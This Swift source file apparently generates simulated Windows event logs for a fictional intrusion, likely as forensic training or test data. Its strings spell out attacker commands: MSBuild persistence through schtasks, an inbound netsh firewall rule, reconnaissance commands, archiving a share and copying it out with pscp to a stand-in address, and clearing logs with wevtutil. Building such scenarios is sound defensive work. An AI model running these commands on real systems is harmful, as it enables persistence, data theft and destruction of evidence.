import EVTXSupport

/// What follows the mail of 28 June on the machines, in order: a program that side-loads, the MSBuild loader as a
/// scheduled task, its firewall rule, a look around, a tunnel, Windows Sandbox, the file server, an archive on its way
/// out, and cleared logs.
enum WindowsIntrusion {
  private typealias Process = WindowsEvents.Process
  private static let user = "SHINONOME\\n.hayashi"
  private static let folder = "C:\\ProgramData\\ScnCfg\\"

  private static func process(_ number: UInt32, _ image: String, isSystem: Bool = false) -> Process {
    Process(number: number, image: image, user: isSystem ? WindowsEvents.system : user)
  }

  private static let management = process(2_244, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", isSystem: true)
  private static let host = process(7_412, folder + "ScnCfg32.exe")
  private static let shell = process(7_580, "C:\\Windows\\System32\\cmd.exe")
  private static let builder = process(
    8_016, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", isSystem: true)
  private static let backdoor = process(8_104, "C:\\Windows\\System32\\rdrleakdiag.exe", isSystem: true)
  private static let sandbox = process(9_260, "C:\\Windows\\System32\\WindowsSandbox.exe", isSystem: true)
  private static let code = process(9_004, "C:\\Users\\Public\\Documents\\code.exe")

  static var desk: [EVTXEvent] { loading + looking + staying + leaving }

  private static var loading: [EVTXEvent] {
    let word = process(7_300, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
    let compiler = process(
      8_040, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", isSystem: true)
    return [
      WindowsEvents.started(
        Moment(6, 28, 11, 24, 50), word, "\"WINWORD.EXE\" /n \"E:\\会合資料.docx\"", by: WindowsDesk.explorer),
      WindowsEvents.wrote(Moment(6, 28, 11, 25, 31), word, folder + "vsodscpl.dll"),
      WindowsEvents.started(
        Moment(6, 28, 11, 26, 11), host, "\"\(host.image)\"", by: management, "ScnCfg32.exe"),
      WindowsEvents.loaded(Moment(6, 28, 11, 26, 12), host, folder + "vsodscpl.dll", isSigned: false),
      WindowsEvents.connected(Moment(6, 28, 11, 26, 40), host, to: "203.0.113.145", port: 443),
      WindowsEvents.started(Moment(6, 28, 11, 41, 2), shell, "cmd.exe /c \"\(folder)r.bat\"", by: host),
      WindowsEvents.started(
        WindowsScripts.exclusionTime, WindowsScripts.exclusion,
        "powershell -NoProfile -Command \(WindowsScripts.exclusionScript)", by: shell, "PowerShell.EXE"),
      WindowsEvents.started(
        Moment(6, 28, 11, 41, 5), process(7_611, "C:\\Windows\\System32\\schtasks.exe"),
        "schtasks /create /tn Hello /tr \"MSBuild.exe C:\\ProgramData\\ScnCfg\\hello.xml\" /sc minute /mo 5 /ru SYSTEM",
        by: shell),
      WindowsEvents.started(
        Moment(6, 28, 11, 46, 0), builder, "MSBuild.exe C:\\ProgramData\\ScnCfg\\hello.xml", by: WindowsDesk.services,
        "MSBuild.exe"),
      WindowsEvents.started(
        Moment(6, 28, 11, 46, 1), compiler, "csc.exe /noconfig /fullpaths @C:\\Windows\\Temp\\k2.cmdline", by: builder),
      WindowsEvents.started(Moment(6, 28, 11, 46, 3), backdoor, "rdrleakdiag.exe", by: builder),
      WindowsEvents.connected(Moment(6, 28, 11, 46, 9), backdoor, to: "203.0.113.146", port: 443),
      WindowsEvents.started(
        Moment(6, 28, 11, 46, 20), process(8_133, "C:\\Windows\\System32\\netsh.exe", isSystem: true),
        "netsh advfirewall firewall add rule name=\"Cortana\" dir=in action=allow protocol=TCP localport=47000",
        by: backdoor),
    ]
  }

  private static var looking: [EVTXEvent] {
    let commands = [
      ("tasklist.exe", "tasklist /v"), ("net.exe", "net user /domain"),
      ("net.exe", "net localgroup administrators"), ("nltest.exe", "nltest /domain_trusts"), ("quser.exe", "quser"),
      ("ipconfig.exe", "ipconfig /all"), ("arp.exe", "arp -a"), ("net.exe", "net view /domain"),
    ]
    return commands.enumerated().map { index, command in
      WindowsEvents.started(
        Moment(6, 28, 13, 2, 10) + index * 41,
        process(8_400 + UInt32(index) * 4, "C:\\Windows\\System32\\" + command.0), command.1, by: shell)
    }
  }

  private static var staying: [EVTXEvent] {
    [
      WindowsEvents.started(
        Moment(7, 1, 22, 14, 30), code, "code.exe tunnel --accept-server-license-terms --name pc-hayashi", by: shell),
      WindowsEvents.started(
        Moment(7, 1, 23, 2, 5), process(9_120, "C:\\Windows\\System32\\Dism.exe", isSystem: true),
        "dism /online /enable-feature /featurename:Containers-DisposableClientVM /all /norestart", by: backdoor),
      WindowsEvents.wrote(Moment(7, 1, 23, 8, 44), backdoor, "C:\\Windows\\System32\\default.wsb"),
      WindowsEvents.started(
        Moment(7, 1, 23, 31, 0), sandbox,
        "C:\\Windows\\System32\\WindowsSandbox.exe C:\\Windows\\System32\\default.wsb", by: WindowsDesk.services),
    ]
  }

  private static var leaving: [EVTXEvent] {
    let rar = process(9_600, "C:\\Users\\Public\\Documents\\rar.exe")
    let copy = process(9_640, "C:\\Users\\Public\\Documents\\pscp.exe")
    return [
      WindowsEvents.started(
        Moment(7, 2, 2, 41, 10), rar, "rar.exe a -hpQ1w2 -v200m C:\\Users\\Public\\Documents\\a.rar S:\\seminar",
        by: shell,
        "Command line RAR"),
      WindowsEvents.started(
        Moment(7, 2, 3, 2, 33), copy, "pscp.exe -P 443 -batch C:\\Users\\Public\\Documents\\a.rar u@203.0.113.200:/d/",
        by: shell, "PSCP"),
      WindowsEvents.connected(Moment(7, 2, 3, 2, 34), copy, to: FortiGateIntrusion.drop, port: 443),
      WindowsEvents.started(
        WindowsScripts.cleaningTime, WindowsScripts.cleaning,
        "powershell -NoProfile -Command \"\(WindowsScripts.cleaningScript)\"", by: backdoor, "PowerShell.EXE"),
      WindowsEvents.started(
        Moment(7, 2, 3, 38, 4), process(9_702, "C:\\Windows\\System32\\wevtutil.exe", isSystem: true),
        "wevtutil cl Security", by: backdoor),
    ]
  }

  /// The rule as the firewall of the desk registers it.
  static var firewall: [EVTXEvent] {
    func rule(_ time: Moment, _ name: String, _ ports: String, _ program: String) -> EVTXEvent {
      WindowsEvents.event(
        time, "Microsoft-Windows-Windows Firewall With Advanced Security", 2_004,
        "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", WindowsEvents.desk,
        [
          ("RuleId", .string("{4B414741-0000-0000-0000-00000000000\(time.seconds % 10)}")), ("RuleName", .string(name)),
          ("Origin", .unsigned(1, bytes: 4)), ("ApplicationPath", .string(program)), ("ServiceName", .string("")),
          ("Direction", .unsigned(1, bytes: 4)), ("Protocol", .unsigned(6, bytes: 4)), ("LocalPorts", .string(ports)),
          ("RemotePorts", .string("*")), ("Action", .unsigned(3, bytes: 4)), ("Active", .unsigned(1, bytes: 4)),
          ("ModifyingApplication", .string("C:\\Windows\\System32\\netsh.exe")),
        ])
    }
    return [
      rule(
        Moment(6, 24, 9, 10), "Microsoft Teams", "*",
        "C:\\Users\\n.hayashi\\AppData\\Local\\Microsoft\\Teams\\Teams.exe"),
      rule(Moment(6, 28, 11, 46, 20), "Cortana", "47000", ""),
    ]
  }

  /// The file server at night: a new account from the address range of the VPN, by remote desktop too.
  static var server: [EVTXEvent] {
    var events = (0..<7).map {
      WindowsServer.failure(Moment(7, 2, 1, 20, 4) + $0 * 13, "administrator", from: "10.212.134.66", "WIN-7K2")
    }
    events += [
      WindowsServer.logon(Moment(7, 2, 1, 24, 40), "administrator", kind: 3, from: "10.212.134.66", "WIN-7K2"),
      WindowsServer.logon(Moment(7, 2, 1, 26, 2), "administrator", kind: 10, from: "10.212.134.66", "FS01"),
      WindowsServer.logon(Moment(7, 1, 22, 20, 51), "n.hayashi", kind: 10, from: "10.20.3.41", "FS01"),
      WindowsEvents.event(
        Moment(7, 2, 3, 40, 11), "Microsoft-Windows-Eventlog", 1_102, "Security", WindowsEvents.server,
        [
          ("SubjectUserSid", .sid(5, [21, 1, 2, 3, 500])), ("SubjectUserName", .string("administrator")),
          ("SubjectDomainName", .string(WindowsEvents.domain)), ("SubjectLogonId", .hex(0x9F2_11C3, bytes: 8)),
        ]),
    ]
    return events
  }

  static var system: [EVTXEvent] {
    [
      WindowsEvents.event(
        Moment(7, 2, 1, 31, 9), "Service Control Manager", 7_045, "System", WindowsEvents.server,
        [
          ("ServiceName", .string("PSEXESVC")), ("ImagePath", .string("%SystemRoot%\\PSEXESVC.exe")),
          ("ServiceType", .string("user mode service")), ("StartType", .string("demand start")),
          ("AccountName", .string("LocalSystem")),
        ]),
      WindowsEvents.event(
        Moment(7, 2, 3, 40, 20), "Microsoft-Windows-Eventlog", 104, "System", WindowsEvents.server,
        [
          ("SubjectUserName", .string("administrator")), ("SubjectDomainName", .string(WindowsEvents.domain)),
          ("Channel", .string("System")), ("BackupPath", .string("")),
        ]),
    ]
  }
}
